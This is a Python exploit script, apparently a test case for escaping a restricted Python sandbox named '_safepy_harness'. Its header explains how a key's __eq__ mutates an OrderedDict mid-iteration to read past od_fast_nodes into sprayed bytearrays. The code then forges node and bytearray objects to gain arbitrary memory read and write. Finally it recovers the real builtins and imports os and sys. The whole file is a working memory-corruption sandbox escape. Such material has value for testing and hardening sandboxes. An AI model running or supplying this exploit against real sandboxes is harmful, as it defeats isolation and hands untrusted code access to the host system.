# technique: OrderedDict iteration: odictiter_nextkey -> _odict_find_node runs the key lookup (colliding key's __eq__) and then indexes od_fast_nodes; iteration takes no pyfix guard, so __eq__ may mutate the od via dict.__setitem__/__delitem__ (allowed: od not busy): grow the dict, re-append the key at entry 12 -> od_fast_nodes[12] read past its 8-slot array into sprayed bytearrays -> fake node -> fake BA key, captured by BA.__hash__ on the next step -> arbitrary R/W -> real builtins/os
# expect: any
import collections
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
def q(v):
    return v.to_bytes(8, "little")
got = []
class BA(bytearray):
    def __hash__(self):
        got.append(self)
        raise KeyError("captured")
FB = q(1 << 40) + q(addr(BA)) + q(1 << 60) * 2 + bytes(40)      # fake PyByteArrayObject of type BA
WA = addr(FB) + 32
N2 = q(WA) + q(0) + q(0) + q(0)                                 # fake _ODictNode: key=W, next=NULL
N = q(WA) + q(0) + q(addr(N2) + 32) + q(0)                      # fake _ODictNode: key=W, next=N2
P = q(addr(N) + 32)
class K:
    __slots__ = ("n",)
    def __init__(self, n): self.n = n
    def __hash__(self): return 1
    def __eq__(self, other):
        if self.n == 1 and st[0]:
            st[0] = 0
            for i in range(10):
                dict.__setitem__(od, 100 + i, 0)     # grow the dict (od_fast_nodes not resized)
            for i in range(10):
                dict.__delitem__(od, 100 + i)
            dict.__delitem__(od, k2)
            dict.__setitem__(od, k2, 2)               # k2 re-appended at entry index 12
        return False
st = [0]
drain = [bytearray(b"d" * 56) for _ in range(4000)]
od = collections.OrderedDict()
k1 = K(1); k2 = K(2)
od[k1] = 1                                             # od_fast_nodes: 8 pointers (64-byte block)
od[k2] = 2
spray = [bytearray(P * 7) for _ in range(200)]         # headers (ob_bytes at +32) and buffers (all P) after it
it = iter(od)
next(it)
st[0] = 1
print("second key:", next(it) is k2)                   # od_fast_nodes[12]: OOB -> fake node -> next key = W
try:
    next(it)
except BaseException as e:
    print("next:", type(e).__name__, e)
W = got[0]
print("fake object:", type(W), hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
